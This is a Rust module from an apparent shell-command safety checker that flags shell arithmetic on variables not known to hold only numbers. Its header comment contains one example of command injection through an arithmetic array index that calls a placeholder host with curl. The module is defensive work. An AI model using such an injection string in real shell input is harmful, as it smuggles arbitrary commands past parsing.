//! Which variables a text sets, and which it computes with.
//!
//! Shell arithmetic runs the *value* of a variable as an expression, and an array index in it may hold a command
//! (`x='a[$(curl evil)]'; echo $((x))`). So a text may compute with a variable only if it gives it nothing but numbers.
//! <https://mywiki.wooledge.org/BashPitfalls#pf46>

use std::collections::{BTreeMap, BTreeSet};

use crate::model::effects::Word;

use super::word::Raw;

/// Variables that the shell itself keeps numeric.
const NUMERIC: &[&str] = &["RANDOM", "SECONDS", "LINENO", "EPOCHSECONDS", "UID", "EUID", "PPID", "BASHPID"];

/// Builtins that set the variables named in their arguments.
const SETTERS: &[&str] = &[
    "read",
    "mapfile",
    "readarray",
    "getopts",
    "declare",
    "local",
    "export",
    "typeset",
    "readonly",
    "let",
    "printf",
    "unset",
    "integer",
    "float",
    "vared",
    "nameref",
    "wait",
];

/// What is known of the variables of one text.
#[derive(Debug, Default)]
pub(super) struct Variables {
    /// Name -> every value was a number.
    numeric: BTreeMap<String, bool>,
    computed: BTreeSet<String>,
    /// Something ran that may set any variable.
    unknown: bool,
}

impl Variables {
    pub(super) fn assign(&mut self, raw: &Raw) {
        let (name, value) = raw.source.split_once('=').unwrap_or((&raw.source, ""));
        let plain = !name.ends_with(['+', ']']);
        let name = name.trim_end_matches('+').split('[').next().unwrap_or_default();
        self.set(name, plain && is_number(value));
    }

    pub(super) fn set(&mut self, name: &str, number: bool) {
        let entry = self.numeric.entry(name.to_owned()).or_insert(true);
        *entry &= number;
    }

    pub(super) fn compute_with(&mut self, name: &str) {
        self.computed.insert(name.to_owned());
    }

    /// Takes note of what a builtin sets.
    pub(super) fn note_builtin(&mut self, raws: &[Raw]) {
        let mut raws = raws.iter().skip_while(|raw| is_assignment(&raw.source));
        let Some(first) = raws.next() else { return };
        if ["eval", "source", ".", "command", "builtin"].contains(&first.value.as_str()) || !first.is_fixed() {
            self.unknown = true;
        } else if SETTERS.contains(&first.value.as_str()) {
            for raw in raws {
                let (name, value) = raw.value.split_once('=').unwrap_or((&raw.value, ""));
                self.set(name, is_number(value));
                self.unknown |= !raw.is_fixed() && !raw.source.contains('=');
            }
        }
    }

    pub(super) fn check(&self) -> Result<(), String> {
        let number = |name: &String| match self.numeric.get(name) {
            Some(number) => *number,
            None => NUMERIC.contains(&name.as_str()),
        };
        match self.computed.iter().find(|name| self.unknown || !number(name)) {
            Some(name) => Err(format!(
                "it computes with `{name}`, whose value the shell would run as an expression; write the number"
            )),
            None => Ok(()),
        }
    }
}

fn is_number(value: &str) -> bool {
    let value = value.trim_matches('"');
    let digits = value.strip_prefix('-').unwrap_or(value);
    (!digits.is_empty() && digits.len() < 19 && digits.bytes().all(|byte| byte.is_ascii_digit()))
        || (value.starts_with("$((") && value.ends_with("))") && value.matches("$(").count() == 1)
}

/// `NAME=`, `NAME+=`, `NAME[index]=` at the start of a word, not quoted.
pub(in crate::decision::command) fn is_assignment(source: &str) -> bool {
    let name = source.bytes().take_while(|byte| byte.is_ascii_alphanumeric() || *byte == b'_').count();
    if name == 0 || source.starts_with(|c: char| c.is_ascii_digit()) {
        return false;
    }
    let rest = source.get(name..).unwrap_or_default();
    let rest = match rest.strip_prefix('[') {
        Some(inside) => inside.find(']').and_then(|end| inside.get(end + 1..)).unwrap_or_default(),
        None => rest,
    };
    rest.starts_with('=') || rest.starts_with("+=")
}

/// An assignment that no program sees and no shell acts on: a plain name in lower case. Names that a shell ties to its
/// search paths or tables, and names that programs read from the environment in lower case, are not among them.
pub(super) fn stays_inside(source: &str) -> bool {
    const TIED: &[&str] = &[
        "path",
        "fpath",
        "cdpath",
        "manpath",
        "mailpath",
        "module_path",
        "fignore",
        "psvar",
        "argv",
        "prompt",
        "status",
        "aliases",
        "galiases",
        "saliases",
        "functions",
        "commands",
        "builtins",
        "options",
        "parameters",
        "modules",
        "nameddirs",
        "userdirs",
        "precmd",
        "preexec",
        "chpwd",
        "watch",
        "histchars",
        "signals",
        "zsh_eval_context",
    ];
    let name = source.split(['=', '+', '[']).next().unwrap_or_default();
    let lower = name.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'_');
    let from_outside = name.ends_with("_proxy") || name.starts_with("npm_") || name.starts_with("pip_");
    let subscript = source.get(name.len()..).is_some_and(|rest| rest.starts_with('['));
    lower && !from_outside && !subscript && !TIED.contains(&name)
}

/// Whether a word of `[[` may stand beside `-eq`, where the shell computes with it.
pub(super) fn is_safe_operand(word: &Word) -> bool {
    match word {
        Word::Literal(text) => is_number(text),
        Word::Dynamic(source) => ["$?", "$#", "\"$?\"", "\"$#\""].contains(&source.as_str()),
    }
}
